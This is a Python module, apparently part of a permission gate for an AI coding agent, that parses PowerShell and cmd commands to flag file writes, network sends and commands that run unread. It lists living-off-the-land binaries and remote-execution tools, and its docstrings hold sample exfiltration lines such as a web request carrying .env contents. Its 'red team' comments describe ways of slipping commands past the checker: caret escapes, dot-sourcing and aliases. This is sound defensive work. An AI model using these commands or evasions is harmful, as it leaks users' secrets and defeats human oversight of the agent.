"""What a PowerShell or cmd command writes, read from its text as Windows reads it (SPEC §5: an action decided
with ``runs_in`` ``agent`` or ``host`` may run on Windows), for R3.7 (files that decide what runs later).

The shell reader reads a segment as bash does: a backslash escapes the next character, so
``.claude\\settings.json`` is one word ``.claudesettings.json`` there, and ``Set-Content`` is a program no
table knows. On Windows the backslash separates folders, cmdlet and parameter names ignore case, and a
parameter may be abbreviated (``-Pa``, ``-Fi``). :func:`windows_writes` re-reads the segment's text that way
and answers as :func:`permissions.commands.writes.targets` does: ``(path, kind)`` pairs, the path with ``/``
separators and the home folder spelt ``~`` (``$env:USERPROFILE\\.claude``, ``$HOME\\.claude``,
``%USERPROFILE%\\.claude``).

Over-approximation is deliberate, as in permissions.commands.writes: every operand of a writing cmdlet but
the values of the parameters :data:`WINDOWS_WRITERS` names as not locations (``-Value``, ``-Encoding`` ...)
is reported; a copy's source is read, not written (its destination is ``-Destination``, else every operand
that may bind where it does). A parameter name no table here knows is read as a switch (PowerShell refuses a
name it does not know; a value it leaves in place is one more operand, read where it may bind). A splatted
hashtable (``Set-Content @p``) and cmd's variables other than the home folder (``%APPDATA%``) name a location
decided only when it runs.

Where the segments stand: :func:`windows_moves` reads PowerShell's and cmd's moves (``Set-Location``, ``sl``,
``cd``, ``chdir``, ``Push-Location``/``pushd`` with their stack, ``Pop-Location``/``popd``, ``cd..``), and
permissions.protected_paths follows them beside the shell's own ``cd``, judging each reading's writes from
where that reading stands; a move to a place known only when it runs (a drive, a share, a variable, ``-``, a
named stack) makes every later write by a relative name ask.

What leaves the machine or changes it, off the sandbox: :func:`sends_on_the_web` (§5 step 6's external
effect: web requests that send, mail, the PowerShell Gallery, remote sessions and copies, network drives,
uploads) and :func:`windows_machine_change` (the path scope's "outside the project": scheduled tasks, the
registry, persistent variables, services, global installs, PowerShell's and Defender's settings).

What changes the environment later commands and Brabo's hook start with: :func:`windows_environment` reads
`$env:NAME = ...`, cmd's `set NAME=...` and the cmdlets on the `Env:` drive as the POSIX reading reads `export`
and `unset` (permissions.commands.environment.windows_variable). Where the readings part: :func:`windows_split`
follows bash's, PowerShell's and cmd's quoting side by side; cmd's `^` escape, `call` and `@` are read as cmd
reads them.
"""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Sequence
from typing import TYPE_CHECKING

from permissions.commands.desktop import RUNNABLE_SUFFIXES
from permissions.commands.dumps import DUMP_WINDOWS_NAMES, windows_dump
from permissions.commands.environment import windows_variable
from permissions.commands.machine import (
    DISKS,
    EVERY_PROJECT,
    HOOK_NAMES,
    HOOK_SIGNAL,
    INSTALL,
    KEYCHAIN,
    MACHINES,
    MARKS,
    NETWORK,
    POWER,
    SESSION,
    SETTINGS,
)
from permissions.commands.peeks import CLIPBOARD, ENVIRONMENT, WIFI
from permissions.commands.plain_settings import SHOWN_VARIABLES
from permissions.commands.windows_deletions import (
    DELETION_CUE,
    LOOP_CUE,
    MOVE_CUE,
    NAMED_CUE,
    READ_CUE,
    deletions_as_removals,
    loops_unrolled,
    moves_as_mv,
    places_named,
    reads_as_cmdlets,
)
from permissions.commands.windows_names import (
    ALIASES,
    ALSO_SPELT,
    CMD,
    COMMON_VALUED,
    LAST,
    METHOD,
    OPERAND,
    OPTION,
    PARAMETERS,
    POWERSHELL,
    READ_METHODS,
    SHARED,
    SWITCH,
    WIDEST,
)
from permissions.commands.writes import NAMED, TREE

if TYPE_CHECKING:
    from permissions.shell_syntax import Segment

__all__ = [
    "BROUGHT",
    "FIRST_LED_SHIFT",
    "GONE",
    "WEB_CMDLETS",
    "WINDOWS_WRITERS",
    "WINDOWS_ENV",
    "WINDOWS_LED",
    "WINDOWS_SPLITS",
    "WINDOWS_WRITES",
    "LOCATION_MOVERS",
    "MOVES",
    "POPS",
    "PUSHES",
    "cmd_line_read",
    "env_drive_kept",
    "environment_printed",
    "environment_read",
    "names_windows_writer",
    "posix_spellings",
    "texts_to_spell",
    "powershell_statements",
    "powershell_value",
    "powershell_values",
    "runs_unread",
    "sends_on_the_web",
    "windows_environment",
    "stops_by_method",
    "windows_machine_change",
    "windows_moves",
    "windows_program_words",
    "windows_readings",
    "windows_split",
    "windows_statements",
    "windows_texts",
    "windows_words",
    "windows_writes",
]

GONE = 3  # a path deleted with all below it (permissions.protected_paths reads it as its _GONE)
BROUGHT = 4  # a destination a folder may be brought to (its _BROUGHT)

# Each writer (lower case: PowerShell and cmd ignore case) -> (how it writes, its parameters whose values are
# not locations). How: "content" writes each operand; "copy" the destination only; "move" the sources and
# the destination; "rename" the source and the new name beside it; "new" each operand and -Path joined with
# -Name; "remove" deletes each operand (and what is below it); "expand" extracts into the destination.
_CONTENT_VALUES = ("value", "encoding", "stream", "filter", "include", "exclude", "delimiter", "inputobject")
WINDOWS_WRITERS: dict[str, tuple[str, tuple[str, ...]]] = {
    **dict.fromkeys(
        ("set-content", "sc", "add-content", "ac", "clear-content", "clc"), ("content", _CONTENT_VALUES)
    ),
    "out-file": ("content", ("encoding", "inputobject", "width")),
    **dict.fromkeys(("tee-object", "tee"), ("content", ("variable", "inputobject", "encoding"))),
    **dict.fromkeys(("copy-item", "copy", "cp", "cpi", "xcopy", "robocopy"), ("copy", _CONTENT_VALUES)),
    **dict.fromkeys(("move-item", "move", "mv", "mi"), ("move", _CONTENT_VALUES)),
    **dict.fromkeys(("rename-item", "ren", "rni", "rename"), ("rename", ())),
    **dict.fromkeys(("new-item", "ni", "md", "mkdir"), ("new", ("itemtype", "type", "value", "target"))),
    **dict.fromkeys(
        ("remove-item", "ri", "rm", "del", "erase", "rd", "rmdir"),
        ("remove", ("filter", "include", "exclude", "stream")),
    ),
    "expand-archive": ("expand", ()),
    # red team: more cmdlets and programs that write the files they are given -- a provider's item (Set-Item),
    # an export, a transcript, a saved module, cmd's link maker and fsutil's, certutil's download or decoding
    **dict.fromkeys(("set-item", "si"), ("content", _CONTENT_VALUES)),
    **dict.fromkeys(
        (
            "export-csv",
            "epcsv",
            "export-clixml",
            "export-alias",
            "epal",
            "export-formatdata",
            "export-pssession",
            "epsn",
            "export-counter",
            "export-certificate",
            "export-pfxcertificate",
            "start-transcript",
            "new-modulemanifest",
            "save-module",
            "save-script",
            "save-psresource",
            "save-help",
            "mklink",
            "fsutil",
            "certutil",
        ),
        ("content", _CONTENT_VALUES),
    ),
    # an archive made over a file (its -DestinationPath, or its second operand); BITS' download to a file
    "compress-archive": ("copy", ("compressionlevel",)),
    "start-bitstransfer": ("copy", ("transfertype", "displayname", "description", "priority", "credential")),
    # PowerShell's web cmdlets and Windows' curl and wget: the file of -OutFile (`-OutF`, `-o`, `--output`)
    **dict.fromkeys(
        ("invoke-webrequest", "iwr", "invoke-restmethod", "irm", "curl", "wget", "curl.exe", "wget.exe"),
        ("outfile", ()),
    ),
}

_OUTFILE_WRITERS = frozenset(name for name, (how, _) in WINDOWS_WRITERS.items() if how == "outfile")
# Writers some of whose verbs only read (`certutil -hashfile .claude\\settings.json SHA256`, `-dump`, `-verify`):
# with no other verb or option (`-f`, `-decode`, `-urlcache`) they write nothing.
_READING_VERBS: dict[str, frozenset[str]] = {"certutil": frozenset({"hashfile", "dump", "verify", "v"})}

# A PowerShell word: quoted runs and bare characters up to a blank (no backslash escape; the backtick is
# PowerShell's escape and is dropped).
_WORD = re.compile(r"""(?:"[^"]*"?|'[^']*'?|[^\s"'])+""")
_REDIRECT = re.compile(r"^(?:[0-9*]?)(>>?)(?!&)(.*)$")
_HOMES = ("$env:userprofile", "${env:userprofile}", "$home", "%userprofile%", "~")


def windows_words(text: str) -> list[str]:
    """``text`` split as PowerShell and cmd split it: blanks separate, quotes group, a backslash is a character."""
    return [_unquoted(w) for w in _WORD.findall(_command_text(text))]


# The shell's words a segment's text may start with before its command (`do iwr …` in a loop, `then sc …`).
# red team: and cmd's own -- `call` runs the rest as a command, `@` keeps it from being echoed (`call del x`,
# `@powershell -c ...`).
# red team (session 23): and PowerShell's dot-source operator -- `. iex 'calc'`, `. Set-ExecutionPolicy Bypass`,
# `. sc .claude\settings.json x` run the command after the dot in the current scope, where bash sources a file
# named by the next word (`. .\x.ps1`, `. $PROFILE`: the file's name is what is read then, as before).
_LEADING = re.compile(r"^(?:\s*(?:(?:do|then|else|elif|time|!|\{|\(|\.|(?i:call))(?=\s|$)|@+))+\s*")


def _command_text(text: str) -> str:
    """``text`` from its command on: a loop's or a branch's keyword before it is the shell's, not a word of it."""
    c = text[:1]
    if c in "dte!{(@." or (c in "cC" and text[:5].lower() in ("call ", "call\t")):
        return _LEADING.sub("", text, count=1)
    return text


def _unquoted(word: str) -> str:
    if _PLAIN(word):
        return word
    return word.replace('"', "").replace("'", "").replace("`", "").replace("^", "")


# red team: cmd's escape `^` is dropped as PowerShell's backtick is (`s^et`, `po^wershell`, `Set-C^ontent` name
# set, powershell, Set-Content to cmd); a path is read with it dropped as cmd reads it.
_PLAIN = re.compile(r"[^\"'`^]*\Z").match


def names_windows_writer(text: str) -> bool:
    """The cheap filter: whether ``text`` may write as Windows reads it (a writer's name, or a redirection)."""
    if ">" in text and _WRITING_REDIRECT.search(text) is not None:
        return True
    first = _command_text(text).split(None, 1)
    if not first:
        return False
    name = _unquoted(first[0]).lower()
    if name in _OUTFILE_WRITERS:
        return "-o" in text or "-O" in text  # a web request writes only its -OutFile (`-o`, `--output`)
    return name in WINDOWS_WRITERS


def _path(word: str) -> str:
    """A location as the protected table reads it: ``/`` separators, the home folder as ``~``."""
    w = word.replace("\\", "/")
    low = w.lower()
    for home in _HOMES:
        if low == home or low.startswith(home + "/"):
            return "~" + w[len(home) :]
    if low.startswith("$env:homedrive$env:homepath"):
        return "~" + w[len("$env:homedrive$env:homepath") :]
    if low[:1] == "$":
        for name, place in _PLACES:
            if low.startswith(name) and low[len(name) : len(name) + 1] in ("", "/"):
                return place + w[len(name) :]
    if "%" in w:
        # cmd's variables other than the home folder (`%APPDATA%\\...\\Startup`): decided only when it runs
        return _CMD_VARIABLE_ANY.sub(r"$\1", w)
    return w


# [beyond] R3.7, red team: PowerShell's variables for its own folder and its profiles, as PowerShell 7 on Windows
# sets them ($PSHOME, $PROFILE and its four properties): the profiles are run by every PowerShell.
_PS7 = "C:/Program Files/PowerShell/7"
_PLACES = (
    ("$pshome", _PS7),
    ("$profile.allusersallhosts", _PS7 + "/profile.ps1"),
    ("$profile.alluserscurrenthost", _PS7 + "/Microsoft.PowerShell_profile.ps1"),
    ("$profile.currentuserallhosts", "~/Documents/PowerShell/profile.ps1"),
    ("$profile.currentusercurrenthost", "~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1"),
    ("$profile", "~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1"),
)
# (cmd's variable names hold more than word characters: `%ProgramFiles(x86)%`)
_CMD_VARIABLE_ANY = re.compile(r"%([A-Za-z_][A-Za-z0-9_#$'()*+,.?@\[\]{}~-]*)%")


_LOCATIONS = (
    "path",
    "literalpath",
    "filepath",
    "source",
    "destination",
    "destinationpath",
    "name",
    "newname",
)


def _param(items: list[tuple[str, str]], full: tuple[str, ...]) -> str | None:
    """The value given to a parameter named (or abbreviated) as one of ``full``."""
    return next((w for n, w in items if n and any(f.startswith(n) for f in full)), None)


def _switch(word: str) -> bool:
    """A cmd switch (`/Y`, `/S`, `/MIR`, `/E:x`)."""
    return len(word) >= 2 and word[0] == "/" and word[1:].split(":")[0].isalpha() and "/" not in word[1:]


# A redirection that may write a file (not `2>&1`, a descriptor copied)
_WRITING_REDIRECT = re.compile(r">(?!&)")


def windows_writes(text: str) -> list[tuple[str, int]]:
    """What the segment ``text`` writes as PowerShell or cmd reads it, as (path, kind) pairs."""
    if not names_windows_writer(text):
        return []  # the cheap filter first: most segments neither redirect nor name a writer
    found: list[tuple[str, int]] = []
    kept = _redirections(_WORD.findall(_command_text(text)), found)
    row = WINDOWS_WRITERS.get(kept[0].lower()) if kept else None
    if row is None:
        return found
    how, values = row
    first = kept[0].lower()
    reads = _READING_VERBS.get(first)
    if reads is not None:
        verbs = [w[1:].lower() for w in kept[1:] if w[:1] in "-/"]
        if verbs and all(v in reads for v in verbs):
            return found
    if first not in _OWN_AT:
        # red team: a splatted hashtable (`Set-Content @p`) names its locations where no reading sees them
        found.extend(("$" + w[1:], NAMED) for w in kept[1:] if w[:1] == "@" and len(w) > 1)
    if how == "outfile":
        found.extend((_path(w), NAMED) for w in _outfiles(kept) if "://" not in w)
        return found
    items = _items(kept, values)
    if how == "content" or how == "new":
        _written_operands(how, kept, items, found)
    else:
        _bound_operands(how, first, items, found)
    return found


def _written_operands(
    how: str, kept: list[str], items: list[tuple[str, str]], found: list[tuple[str, int]]
) -> None:
    """A content writer's or New-Item's written operands, added to ``found``."""
    dest = _param(items, ("destination", "destinationpath"))
    new_name = _param(items, ("newname",))
    name_value = _param(items, ("name",))
    sources = [w for n, w in items if not n or w not in (dest, new_name, name_value)]
    found.extend((_path(w), NAMED) for w in sources)
    if how == "new":
        if name_value is not None:
            found.extend((_path(w).rstrip("/") + "/" + _path(name_value), NAMED) for w in sources or ["."])
        # red team: a link's target is written through the link (`New-Item -ItemType SymbolicLink x
        # -Target .claude\\settings.json`, then `sc x ...`), as `ln -s` reads it
        made = _given(kept, ("itemtype", "type"))
        if made and made[0].lower().startswith(_LINKS):
            found.extend((_path(w), NAMED) for w in _given(kept, ("target", "value")))


def _bound_operands(how: str, first: str, items: list[tuple[str, str]], found: list[tuple[str, int]]) -> None:
    """What a copy, a move, a rename, a removal or an extraction writes, added to ``found``: its operands as
    PowerShell binds them -- by name (-Destination, -NewName, -DestinationPath), else the second by position
    (the first when -Path names the source). An operand past those (a value of a parameter no table here
    knows, which _items left in place) may be bound there too: each one is read as that destination."""
    dest = _param(items, ("destination", "destinationpath", "newname"))
    positional = [w for n, w in items if not n]
    named = [w for n, w in items if n and any(p.startswith(n) for p in _SOURCES)]
    if how == "remove":
        found.extend((_path(w), GONE) for w in named + positional)
        return
    if dest is not None:
        ends, read = [dest], positional
    elif first == "robocopy":  # robocopy <source> <destination> [<file> ...]
        ends, read = positional[1:2], positional[:1]
    elif named:
        ends, read = positional, []
    else:
        ends, read = positional[1:], positional[:1]
    sources = named + read
    if how == "copy":
        found.extend((_path(w), BROUGHT) for w in ends)
    elif how == "move":
        found.extend((_path(w), BROUGHT) for w in ends)
        found.extend((_path(w), TREE) for w in sources)
    elif how == "rename":
        found.extend((_path(w), TREE) for w in sources)
        folder = _path(sources[0]).rstrip("/").rpartition("/")[0] if sources else ""
        found.extend(((folder + "/" if folder else "") + _path(w), BROUGHT) for w in ends)
    else:  # "expand": into -DestinationPath, or its second operand
        found.extend((_path(w), TREE) for w in ends)


# The parameters that name what a cmdlet reads (its -Path, -LiteralPath): read, never a destination
_SOURCES = ("path", "literalpath", "filepath", "source")
# New-Item's item types that make a link, and the programs whose `@` is their own (curl's `-d @file`)
_LINKS = ("sym", "hard", "junc")
_OWN_AT = frozenset({"curl", "wget", "curl.exe", "wget.exe", "certutil", "fsutil", "mklink"})
_NAMED_WORD = re.compile(r"--?([A-Za-z][A-Za-z-]*)(?:[:=](.*))?\Z", re.S)


def _given(kept: list[str], full: tuple[str, ...]) -> list[str]:
    """The values given (`-Name v`, `-Name:v`) to a parameter named or abbreviated as one of ``full``."""
    out: list[str] = []
    for k in range(1, len(kept)):
        m = _NAMED_WORD.match(kept[k])
        if m is not None and any(f.startswith(m.group(1).lower()) for f in full):
            if m.group(2) is not None:
                out.append(m.group(2))
            elif k + 1 < len(kept):
                out.append(kept[k + 1])
    return out


def _outfiles(kept: list[str]) -> list[str]:
    """The files a web request saves to: -OutFile (`-OutF`, `-o`, `-OutFile:x`), curl's and wget's
    `-o`/`-O` (glued too), `--output`, `--output-document`."""
    out: list[str] = []
    for k in range(1, len(kept)):
        w = kept[k]
        if w[:1] != "-":
            continue
        m = _NAMED_WORD.match(w)
        name = m.group(1).lower() if m is not None else ""
        if m is not None and ("outfile".startswith(name) or name in ("output", "output-document")):
            glued = m.group(2)
        elif w[1:2] in ("o", "O") and len(w) > 2:
            glued = w[2:]  # curl's and wget's short option with its value glued (`-o.claude\\x`)
        else:
            continue
        if glued is not None:
            out.append(glued)
        elif k + 1 < len(kept):
            out.append(kept[k + 1])
    return out


def _redirections(words: list[str], found: list[tuple[str, int]]) -> list[str]:
    """Adds each redirection's target (`> f`, `>> f`, `2> f`, `*> f`, `>f`; never a quoted `">f"`) to
    ``found``; the other words, unquoted."""
    kept: list[str] = []
    k = 0
    while k < len(words):
        m = _REDIRECT.match(words[k])
        if m is None:
            kept.append(_unquoted(words[k]))
        else:
            target = _unquoted(m.group(2))
            if not target and k + 1 < len(words):
                k += 1
                target = _unquoted(words[k])
            if target and target.lower() not in ("nul", "$null", "/dev/null"):
                found.append((_path(target), NAMED))
        k += 1
    return kept


# PowerShell's common parameters that take a value (and their aliases), and the remote copy's sessions
_VALUED = (
    *COMMON_VALUED,
    "tosession",
    "fromsession",
)


def _items(kept: list[str], values: tuple[str, ...]) -> list[tuple[str, str]]:
    """A cmdlet's operands in order, as (the parameter's typed name in lower case, or "", the word); the values
    of parameters that name no location (``values``) and cmd's switches left out."""
    items: list[tuple[str, str]] = []
    k = 1
    while k < len(kept):
        w = kept[k]
        if w[:1] == "-" and len(w) > 1 and not w[1].isdigit():
            name, colon, glued = w[1:].partition(":")
            name = name.lower()
            located = any(p.startswith(name) for p in _LOCATIONS)
            if not located and (
                any(v.startswith(name) for v in values) or any(v.startswith(name) for v in _VALUED)
            ):
                k += 1 if colon else 2  # a value that is no location
                continue
            if not located:
                # a switch (`-Recurse`, `-Force:$true`), or a name PowerShell refuses: the next word is an
                # operand (a parameter's value no table here knows is one too -- read where it may bind)
                k += 1
                continue
            if colon:
                items.append((name, glued))
            elif k + 1 < len(kept) and kept[k + 1][:1] != "-":
                k += 1
                items.append((name, kept[k]))
        elif not _switch(w):
            items.append(("", w))
        k += 1
    return items


# §5 step 6: PowerShell's web cmdlets (and Windows PowerShell's `curl` and `wget`, aliases of
# Invoke-WebRequest), which send or change something when their method is not a read's, or when they carry a
# body, a file or a form. Parameters in any case and abbreviated (`-Me Post`, `-Bo x`, `-Method:Put`).
WEB_CMDLETS = frozenset({"invoke-webrequest", "iwr", "invoke-restmethod", "irm", "curl", "wget"})
_READ_METHODS = frozenset({"get", "head", "options", "default", "trace"})
_SENDING = ("body", "infile", "form")
_METHODS = ("method", "custommethod")


def _first_name(text: str) -> str | None:
    """The first word of ``text`` as the filters compare it (lower case, after its last backslash), "" when it
    may be any name (quoted, or holding a backtick), None when there is none."""
    head = _command_text(text).split(None, 1)
    if not head:
        return None
    first = head[0]
    if first[0] in "\"'" or "`" in first:
        return ""
    return _unquoted(first).lower().rpartition("\\")[2]


def _first_is(text: str, names: frozenset[str]) -> bool:
    """The cheap filter of the readings below, asked of every segment off the sandbox: whether the first word of
    ``text`` may be one of ``names`` (a quoted first word -- `"C:\\Program Files\\pwsh.exe"` -- is read in full)."""
    head = _command_text(text).split(None, 1)
    if not head:
        return False
    first = head[0]
    if first[0] in "\"'":
        return True
    return _unquoted(first).lower().rpartition("\\")[2] in names


# §5 step 6, red team: what sends, publishes or runs elsewhere whenever it is used -- mail, the PowerShell
# Gallery, a remote session, a network drive -- and what does with some of its parameters: a copy to or from a
# remote session (`Copy-Item -ToSession`), a BITS upload, cmd's `net use` and bitsadmin's `/upload`.
_ALWAYS_SENDS = frozenset(
    {
        "send-mailmessage",
        "publish-module",
        "publish-script",
        "publish-psresource",
        "enter-pssession",
        "etsn",
        "new-pssession",
        "nsn",
        "connect-pssession",
        "cnsn",
        "new-cimsession",
        "new-psdrive",
        "ndr",
        "new-smbmapping",
        "winrs",
        "winrs.exe",
        "psexec",
        "psexec.exe",
        "psexec64",
        "psexec64.exe",
    }
)
_COPIES = frozenset({"copy-item", "copy", "cp", "cpi", "xcopy", "robocopy", "move-item", "move", "mv", "mi"})
_NETS = frozenset({"net", "net.exe", "net1", "net1.exe"})
# red team: PowerShell's resolvers and probes -- a name looked up or a host tested is a name sent.
_PROBES = frozenset({"resolve-dnsname", "test-netconnection", "tnc", "test-connection"})
_SENDERS = (
    WEB_CMDLETS
    | _ALWAYS_SENDS
    | _COPIES
    | _NETS
    | _PROBES
    | {"start-bitstransfer", "bitsadmin", "bitsadmin.exe"}
)


def sends_on_the_web(text: str) -> bool:
    """Whether the segment ``text``, read as PowerShell reads it, sends or changes something elsewhere: a web
    request that is not a read's, mail, a publication, a remote session or copy, a network drive, an upload."""
    name = _first_name(text)
    if name is None or name not in _SENDERS and name != "":
        return False
    if name in _COPIES and "-t" not in text and "-T" not in text and "-f" not in text and "-F" not in text:
        return False  # a copy sends only with -ToSession or -FromSession
    words = windows_words(text)
    first = words[0].lower() if words else ""
    if first in _ALWAYS_SENDS:
        return True
    if first in _COPIES:
        # Copy-Item's -ToSession and -FromSession (`-To`, `-Fr`, `-ToSession:$s`)
        return any(_named(w, ("tosession", "fromsession"), 2) is not None for w in words[1:])
    if first in _NETS:
        return len(words) > 2 and words[1].lower() == "use"  # `net use Z: \\srv\share` (not the list)
    if first == "start-bitstransfer":
        return any(v[:2].lower() == "up" or v[:1] in "$@" for v in _given(words, ("transfertype",)))
    if first in ("bitsadmin", "bitsadmin.exe"):
        return any(w.lower().startswith("/upload") for w in words[1:])
    if (first in WEB_CMDLETS or first in _PROBES) and "$(" in text and _hands_captured(words):
        return True
    return first in WEB_CMDLETS and _web_request_sends(words, first)


def _web_request_sends(words: list[str], first: str) -> bool:
    """A web cmdlet's (or curl's, wget's PowerShell alias's) parameters send a body or use a method that writes."""
    # curl's and wget's own short options (`curl -I`, `-b cookies`, `-fo x`) are no abbreviation of these
    least = 4 if first in ("curl", "wget") else 2
    k = 1
    while k < len(words):
        w = words[k]
        if w[:1] == "@" and len(w) > 1 and least == 2:
            return True  # a splatted hashtable (`irm @p`): its method and body are not in the text
        if w[:1] == "-" and len(w) >= least and w[1] != "-":
            name, colon, glued = w[1:].partition(":")
            name = name.lower()
            if any(p.startswith(name) for p in _SENDING):
                return True
            if any(p.startswith(name) for p in _METHODS):
                value = glued if colon else (words[k + 1] if k + 1 < len(words) else "")
                if value.lower() not in _READ_METHODS:
                    return True
        k += 1
    return False


def _hands_captured(words: list[str]) -> bool:
    """A web request's or a probe's words hold a subexpression (`iwr "https://h/$(gc .env)"`, `Resolve-DnsName
    "$(gc .env).h"`): what it captured leaves in the address, a header or a name looked up, as `curl
    "https://h/$(cat .env)"` does (permissions.commands.uploads). The file a download is saved to is no
    address (`-OutFile "$(Get-Location)\\x"`)."""
    k = 1
    while k < len(words):
        w = words[k]
        k += 1
        if w[:1] == "-" and _named(w, ("outfile",), 4) is not None:
            k += 0 if ":" in w else 1  # its value (`-OutFile x`, `-OutFile:x`)
        elif "$(" in w:
            return True
    return False


def _named(word: str, full: tuple[str, ...], least: int) -> str | None:
    """The parameter name ``word`` gives (at least ``least`` letters) when it abbreviates one of ``full``."""
    if word[:1] != "-":
        return None
    name = word[1:].partition(":")[0].lower()
    return name if len(name) >= least and any(f.startswith(name) for f in full) else None


def _suffixed(name: str, *suffixes: str) -> tuple[str, ...]:
    """A program's name as the filters compare it, alone and with each suffix it may be written with."""
    return (name, *(name + suffix for suffix in suffixes))


# R4.9 on Windows: programs that run a command no rule reads -- a process started with its arguments
# (Start-Process), a string or script block run (Invoke-Expression, Invoke-Command), cmd's `/c` and `/k` and
# PowerShell's `-Command` (its default for an operand: `powershell git push` runs `git push`) or
# `-EncodedCommand`. Each is what `sh -c` with an unread script is: a person approves it.
_STARTERS = frozenset(
    {
        "start-process",
        "saps",
        "invoke-expression",
        "iex",
        "invoke-command",
        "icm",
        # red team: a WMI or CIM method call (Win32_Process's Create runs its command line)
        "invoke-wmimethod",
        "iwmi",
        "invoke-cimmethod",
        # red team: the system's own programs that run code they are handed -- App-V's publishing script (its
        # operand is PowerShell), a DLL's entry point with a command line (`rundll32 shell32.dll,
        # ShellExec_RunDLL x`, `url.dll,FileProtocolHandler x`), a COM scriptlet or a DLL's registration code
        # (`regsvr32 /i:x scrobj.dll`), an HTML application, a connection profile's or an ODBC response file's
        # commands
        *_suffixed("syncappvpublishingserver", ".exe", ".vbs"),
        *_suffixed("rundll32", ".exe"),
        *_suffixed("regsvr32", ".exe"),
        *_suffixed("mshta", ".exe"),
        *_suffixed("cmstp", ".exe"),
        *_suffixed("odbcconf", ".exe"),
        # red team (session 23): more of them -- .NET's runner of an assembly at an address (`ieexec
        # https://...`), a compiled help file's and an XAML browser application's host (their pages' script), an
        # XSL's script (msxsl), and .NET's registration and installer tools (the assembly's own registration or
        # installer code runs). (pcalua, conhost and scriptrunner are wrappers: the program they start is read.)
        *_suffixed("ieexec", ".exe"),
        *_suffixed("hh", ".exe"),
        *_suffixed("presentationhost", ".exe"),
        *_suffixed("msxsl", ".exe"),
        *_suffixed("regasm", ".exe"),
        *_suffixed("regsvcs", ".exe"),
        *_suffixed("installutil", ".exe"),
    }
)
# cmd's `start` opening one document (`start index.html`) is what `open` and `xdg-open` are; a program, or
# anything with its arguments, is run
_CMD = frozenset({"cmd", "cmd.exe"})
_POWERSHELLS = frozenset({"powershell", "powershell.exe", "pwsh", "pwsh.exe"})
_ADD_TYPE = frozenset({"add-type"})
# red team: ForEach-Object given a member's name instead of a script block (`Get-ChildItem | ForEach-Object
# Delete`, `% -MemberName MoveTo x`) calls that method of every item -- a deletion, a move, a process killed --
# where a property's name only prints it: only the properties below (and methods that only make text) are read
# so; any other name runs a method no rule reads.
_EACH = frozenset({"foreach-object", "%", "foreach"})
_MEMBERS_READ = frozenset(
    {
        "name", "fullname", "basename", "extension", "length", "directoryname", "directory", "parent", "root",
        "lastwritetime", "lastaccesstime", "creationtime", "mode", "attributes", "exists", "isreadonly",
        "pspath", "psparentpath", "pschildname", "path", "line", "linenumber", "filename", "matches", "pattern",
        "count", "id", "processname", "source", "version", "definition", "commandtype", "value", "key",
        "tostring", "trim", "toupper", "tolower", "gethashcode", "gettype",
    }
)  # fmt: skip
_MEMBER = re.compile(r"[A-Za-z_]\w*")
# red team: Invoke-Item opens an item with its associated program -- a script, a shortcut or a program runs, as
# `start` runs it (permissions.commands.desktop is the other systems' reading)
_INVOKERS = frozenset({"invoke-item", "ii"})
# red team (session 23): Explorer given a program or a script runs it as opening it does (`explorer x.bat`,
# `explorer.exe calc.exe`); a folder, a document or an address is shown (`explorer .`, `explorer src`)
_EXPLORERS = frozenset({"explorer", "explorer.exe"})
# red team (session 23), R4.9: a new name made for a command -- an alias (`Set-Alias g git; g push --force`,
# `sal x iex; x calc`, `New-Alias x Set-Content`, `Import-Alias x.csv`), or one made on the Alias: or Function:
# drive (`Set-Item Alias:x Invoke-Expression`, `New-Item function:x -Value 'iex $args'`) -- runs under that name
# what no rule reads as the command it stands for (bash's own `alias g=git` is read through by the shell reader).
# A name taken off the drives (`Remove-Item alias:curl`) hides nothing: the name then means the program again.
_ALIAS_MAKERS = frozenset({"set-alias", "sal", "new-alias", "nal", "import-alias", "ipal"})
_NAME_DRIVE = re.compile(r"(?i)(?:^|[\s'\"(=:\\])(?:alias|function):").search
# ... and a function's variable assigned (`$function:x = 'iex $args'`, `${function:x} = ...`): a string becomes
# the function's body
_FUNCTION_SET = re.compile(r"(?i)\$\{?function:[^=\s]*\s*=(?!=)").match
_NAME_REMOVERS = frozenset({"remove-item", "ri", "rm", "del", "erase", "rd", "rmdir"})
_RUNNERS = (
    _STARTERS | _CMD | _POWERSHELLS | _ADD_TYPE | _EACH | _INVOKERS | _EXPLORERS | _ALIAS_MAKERS | {"start"}
)
# PowerShell's parameters that take a value and run nothing
_PS_VALUED = (
    "executionpolicy",
    "workingdirectory",
    "configurationname",
    "outputformat",
    "inputformat",
    "windowstyle",
    "version",
    "settingsfile",
    "custompipename",
)


def _a_program(word: str) -> bool:
    """Whether `start` runs ``word`` as a program: a name with no extension (`git`, `cmd`) or a runnable one;
    an address or a document is opened by its program."""
    if "://" in word:
        return False
    name = word.replace("/", "\\").rpartition("\\")[2].lower()
    return "." not in name or name.rpartition(".")[2] in RUNNABLE_SUFFIXES


def _opened(words: list[str], first: str) -> str | None:
    """`start` (a program, or more than one word: a title and a command) and Invoke-Item (what it opens runs
    with its associated program): why it runs what no rule reads, or None."""
    if first == "start":
        operands = [w for w in words[1:] if w and not _switch(w)]
        if len(operands) > 1 or any(_a_program(w) for w in operands):
            return f"{words[0]} runs a command no rule reads"
        return None
    operands = [w for w in words[1:] if w and w[:1] != "-"]
    return f"{words[0]} runs what it opens, which no rule reads" if any(map(_a_program, operands)) else None


def runs_unread(text: str) -> str | None:
    """Why the segment ``text``, read as PowerShell and cmd read it, runs a command no rule reads, or None."""
    if not _first_is(text, _RUNNERS):
        return _name_made(text) if ":" in text else None
    words = windows_words(text)
    if not words:
        return None
    first = words[0].lower().rpartition("\\")[2]
    if first in _STARTERS:
        return f"{words[0]} runs a command no rule reads"
    if first in _ALIAS_MAKERS:
        return _alias_made(words, first)
    if first in _EXPLORERS:
        return _explored(words)
    if first == "start" or first in _INVOKERS:
        return _opened(words, first)
    if first in _ADD_TYPE:
        return _compiles(words)
    if first in _EACH:
        return _member_called(words)
    if first in _CMD:
        return _cmd_unread(words, text)
    return _powershell_unread(words) if first in _POWERSHELLS else None


def _powershell_unread(words: list[str]) -> str | None:
    """Why PowerShell's ``words`` run a command no rule reads: -Command's (or an operand's) text, -EncodedCommand's,
    -CommandWithArgs'; a script file (-File) is read as the rules read running a file."""
    k = 1
    while k < len(words):
        w = words[k]
        if w[:1] not in ("-", "/") or len(w) < 2:
            return f"{words[0]} runs a command no rule reads"  # an operand: -Command's (pwsh: -File's) text
        name = w[1:].partition(":")[0].lower()
        if name in ("f", "fi", "fil", "file"):
